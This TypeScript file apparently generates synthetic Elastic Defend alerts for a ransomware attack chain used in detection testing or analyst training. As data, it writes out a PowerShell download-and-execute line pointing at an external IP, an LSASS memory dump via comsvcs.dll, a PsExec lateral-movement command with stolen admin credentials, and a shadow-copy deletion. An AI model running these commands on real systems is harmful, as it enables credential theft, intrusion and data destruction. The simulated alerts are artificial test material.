/**
 * Phishing document → Office spawns encoded PowerShell → download from an external IP → LSASS dump →
 * PsExec lateral movement from host A to host B → shadow-copy deletion and mass renames on B.
 *
 * How the alerts connect, as Elastic Defend would record them: on A every step runs in the victim's session
 * (same `host.id` and `user.id`; PsExec is started there with the admin credentials dumped from LSASS, `-u`),
 * and one PowerShell process (one `process.entity_id`) trips three rules. On B the PsExec service runs the
 * payload under the stolen admin account, so B's steps share `host.id` and the admin's `user.id`. The hop
 * itself: A's outbound SMB connection (source A, destination B) mirrors B's copy from A's admin share
 * (source B, destination A), so A's `source.ip` is B's `destination.ip` and vice versa.
 */
import { encodePowerShell, endpointProcessStart, eventEcs, fileEcs, hostEcs, mergeEcs, networkEcs, processEcs, userEcs } from '../ecs';
import { SCENARIO_RULES as R } from '../rules';
import { HOUR, MINUTE, type Scenario, type ScenarioAlertSpec } from './context';

export const C2_IP = '185.220.101.47';

export const ransomwareScenario: Scenario = {
  id: 'ransomware',
  story: 'Phishing document leads to encoded PowerShell, credential dumping, PsExec lateral movement and encryption on a file server.',
  verdict: 'true_positive',
  build(ctx) {
    const { prng, estate } = ctx;
    const hostA = ctx.takeHost('windows', 'ws-');
    const hostB = ctx.takeHost('windows', 'srv-file');
    const victim = ctx.takeUser();
    const admin = { name: 'adm-rwalker', id: 'S-1-5-21-3623811015-3361044348-30300820-2201', domain: 'CORP', fullName: 'R. Walker (admin)' };
    const system = estate.traps.system;
    const t0 = ctx.now - 20 * HOUR + prng.int(0, 30) * MINUTE;
    const doc = `C:\\Users\\${victim.name}\\Downloads\\Invoice_${prng.int(1000, 9999)}.docm`;
    const script = `IEX (New-Object Net.WebClient).DownloadString('http://${C2_IP}/a.ps1')`;
    const encoded = encodePowerShell(script);
    // The same encoded command line runs in three alerts of the chain.
    const encodedPowerShell = () => ({
      name: 'powershell.exe',
      executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      args: ['powershell.exe', '-nop', '-w', 'hidden', '-EncodedCommand', encoded],
    });
    const payload = 'C:\\ProgramData\\svchelper.exe';
    // Processes seen by more than one alert keep one endpoint entity id.
    const winword = { name: 'WINWORD.EXE', executable: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', args: ['WINWORD.EXE', '/n', doc], entityId: prng.hex(40), pid: prng.int(2000, 9000) };
    const powershell = { ...encodedPowerShell(), entityId: prng.hex(40), pid: prng.int(2000, 9000), parent: winword };
    const svchelper = { name: 'svchelper.exe', executable: payload, entityId: prng.hex(40), pid: prng.int(2000, 9000) };
    const psexesvc = { name: 'PSEXESVC.exe', executable: 'C:\\Windows\\PSEXESVC.exe', args: ['C:\\Windows\\PSEXESVC.exe'], entityId: prng.hex(40), pid: prng.int(2000, 9000) };
    const locker = { name: 'locker.exe', executable: 'C:\\Windows\\Temp\\locker.exe', args: ['C:\\Windows\\Temp\\locker.exe', '--path', 'D:\\Shares'], entityId: prng.hex(40), pid: prng.int(2000, 9000) };

    const onA = (role: string, spec: Omit<ScenarioAlertSpec, 'role'>): ScenarioAlertSpec => ({ ...spec, role });
    const alerts: ScenarioAlertSpec[] = [
      onA('phishing-document', {
        rule: R.phishingAttachment,
        timestamp: t0,
        ecs: mergeEcs(
          hostEcs(hostA),
          userEcs(victim),
          eventEcs(prng, { category: ['file'], type: ['creation'], action: 'creation', dataset: 'endpoint.events.file', module: 'endpoint' }),
          processEcs(prng, { name: 'OUTLOOK.EXE', executable: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', args: ['OUTLOOK.EXE'], parent: { name: 'explorer.exe' } }),
          fileEcs(prng, doc),
        ),
      }),
      onA('office-spawns-powershell', {
        rule: R.officeChild,
        timestamp: t0 + 2 * MINUTE,
        ecs: mergeEcs(
          hostEcs(hostA),
          userEcs(victim),
          eventEcs(prng, endpointProcessStart()),
          processEcs(prng, { ...powershell, workingDirectory: `C:\\Users\\${victim.name}\\Documents` }),
        ),
      }),
      onA('encoded-powershell', {
        rule: R.encodedPowerShell,
        timestamp: t0 + 2 * MINUTE + 5_000,
        ecs: mergeEcs(
          hostEcs(hostA),
          userEcs(victim),
          eventEcs(prng, endpointProcessStart()),
          processEcs(prng, powershell),
        ),
      }),
      onA('download-from-external-ip', {
        rule: R.powershellDownload,
        timestamp: t0 + 4 * MINUTE,
        ecs: mergeEcs(
          hostEcs(hostA),
          userEcs(victim),
          eventEcs(prng, { category: ['network'], type: ['connection', 'start'], action: 'connection_attempted', outcome: 'success', dataset: 'endpoint.events.network', module: 'endpoint' }),
          processEcs(prng, powershell),
          networkEcs({ sourceIp: hostA.ip, destinationIp: C2_IP, destinationPort: 80, protocol: 'http', direction: 'egress', bytes: 482_113, destinationGeo: { country: 'DE', city: 'Frankfurt' }, destinationAs: { number: 208294, org: 'Example Bulletproof Hosting' } }),
          fileEcs(prng, payload),
        ),
      }),
      onA('lsass-dump', {
        rule: R.lsassAccess,
        timestamp: t0 + 15 * MINUTE,
        ecs: mergeEcs(
          hostEcs(hostA),
          userEcs(victim),
          eventEcs(prng, { category: ['process'], type: ['access'], action: 'api', dataset: 'endpoint.events.api', module: 'endpoint' }),
          processEcs(prng, {
            name: 'rundll32.exe',
            executable: 'C:\\Windows\\System32\\rundll32.exe',
            args: ['rundll32.exe', 'C:\\Windows\\System32\\comsvcs.dll,', 'MiniDump', '712', 'C:\\ProgramData\\lsass.dmp', 'full'],
            parent: svchelper,
          }),
          { Target: { process: { name: 'lsass.exe', pid: 712 } } },
        ),
      }),
      onA('lateral-movement-source', {
        rule: R.psexecLateral,
        timestamp: t0 + 35 * MINUTE,
        ecs: mergeEcs(
          hostEcs(hostA),
          userEcs(victim),
          eventEcs(prng, { category: ['network'], type: ['connection', 'start'], action: 'connection_attempted', outcome: 'success', dataset: 'endpoint.events.network', module: 'endpoint' }),
          processEcs(prng, { name: 'PsExec64.exe', executable: 'C:\\ProgramData\\PsExec64.exe', args: ['PsExec64.exe', `\\\\${hostB.name}`, '-u', `${admin.domain}\\${admin.name}`, '-p', '********', '-d', 'cmd.exe', '/c', 'copy', `\\\\${hostA.name}\\ADMIN$\\Temp\\locker.exe`, 'C:\\Windows\\Temp\\locker.exe'], parent: svchelper }),
          networkEcs({ sourceIp: hostA.ip, destinationIp: hostB.ip, destinationPort: 445, protocol: 'smb', direction: 'internal' }),
        ),
      }),
      {
        role: 'remote-service-installed',
        rule: R.remoteServiceInstalled,
        timestamp: t0 + 35 * MINUTE + 20_000,
        traps: ['user.name=SYSTEM'],
        ecs: mergeEcs(
          hostEcs(hostB),
          userEcs(system),
          eventEcs(prng, endpointProcessStart({ code: '7045' })),
          processEcs(prng, { ...psexesvc, parent: { name: 'services.exe', executable: 'C:\\Windows\\System32\\services.exe' } }),
          networkEcs({ sourceIp: hostA.ip, destinationIp: hostB.ip, destinationPort: 445, protocol: 'smb', direction: 'ingress' }),
        ),
      },
      {
        role: 'lateral-movement-target',
        rule: R.toolFromShare,
        timestamp: t0 + 36 * MINUTE,
        ecs: mergeEcs(
          hostEcs(hostB),
          userEcs(admin),
          eventEcs(prng, { category: ['network', 'file'], type: ['connection', 'creation'], action: 'connection_attempted', outcome: 'success', dataset: 'endpoint.events.network', module: 'endpoint' }),
          processEcs(prng, { name: 'cmd.exe', executable: 'C:\\Windows\\System32\\cmd.exe', args: ['cmd.exe', '/c', 'copy', `\\\\${hostA.name}\\ADMIN$\\Temp\\locker.exe`, 'C:\\Windows\\Temp\\locker.exe'], parent: psexesvc }),
          networkEcs({ sourceIp: hostB.ip, destinationIp: hostA.ip, destinationPort: 445, protocol: 'smb', direction: 'internal' }),
          fileEcs(prng, 'C:\\Windows\\Temp\\locker.exe'),
        ),
      },
      {
        role: 'shadow-copy-deletion',
        rule: R.shadowCopyDeletion,
        timestamp: t0 + 48 * MINUTE,
        ecs: mergeEcs(
          hostEcs(hostB),
          userEcs(admin),
          eventEcs(prng, endpointProcessStart()),
          processEcs(prng, { name: 'vssadmin.exe', executable: 'C:\\Windows\\System32\\vssadmin.exe', args: ['vssadmin.exe', 'delete', 'shadows', '/all', '/quiet'], parent: locker }),
        ),
      },
      {
        role: 'mass-file-rename',
        rule: R.massRename,
        timestamp: t0 + 50 * MINUTE,
        extra: { 'kibana.alert.threshold_result.count': 4812, 'kibana.alert.threshold_result.terms': [{ field: 'process.entity_id', value: locker.entityId }] },
        ecs: mergeEcs(
          hostEcs(hostB),
          userEcs(admin),
          eventEcs(prng, { category: ['file'], type: ['change'], action: 'rename', dataset: 'endpoint.events.file', module: 'endpoint' }),
          processEcs(prng, { ...locker, parent: { name: 'cmd.exe' } }),
          fileEcs(prng, 'D:\\Shares\\Finance\\Q3-forecast.xlsx.lockd', { extension: 'lockd' }),
        ),
      },
    ];
    return { incident: 'ransomware-1', alerts };
  },
};
